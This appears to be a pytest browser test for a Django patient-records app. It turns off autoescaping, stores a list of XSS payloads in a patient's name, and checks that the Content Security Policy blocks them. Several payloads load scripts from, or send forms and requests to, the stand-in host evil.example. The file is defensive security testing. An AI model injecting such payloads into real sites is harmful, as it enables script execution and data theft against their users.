"""The last line: with escaping switched off on purpose, the policy still lets nothing run."""

import pytest
from django.template import engines

from tests.factories import PatientFactory, UserFactory

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

PAYLOADS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<body onpageshow=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a id=go href='javascript:window.hit=1'>go</a>",
    "<script src=//evil.example/x.js></script>",
    "<form id=f action=//evil.example><input name=q></form>",
    "<base href=//evil.example/>",
    "<style>body{background:url(//evil.example/s)}</style>",
]


def test_markup_that_escapes_our_escaping_is_blocked_by_the_policy(visit, monkeypatch):
    patient = PatientFactory()
    nurse = visit(UserFactory(locations=[patient.location]))
    refused = []  # asked for, and blocked before it left the browser
    nurse.page.on("requestfailed", lambda request: refused.append((request.url, request.failure)))
    came = []
    nurse.page.on("response", lambda response: came.append(response.url))
    monkeypatch.setattr(engines["django"].engine, "autoescape", False)

    ran = []
    for payload in PAYLOADS:
        type(patient).objects.filter(pk=patient.pk).update(family_name=payload)
        response = nurse.go(patient.get_absolute_url())
        assert payload in response.text(), "escaping is not off, so nothing is tried"
        if nurse.page.locator("#go").count():
            nurse.page.locator("#go").first.dispatch_event("click")
        nurse.page.wait_for_timeout(50)
        if nurse.page.evaluate("window.hit === 1"):
            ran.append(payload)

    assert ran == []
    assert [url for url in came if "evil.example" in url] == []
    assert {why for url, why in refused if "evil.example" in url} <= {"csp"}
    assert any("Content Security Policy" in words for words in nurse.complaints)
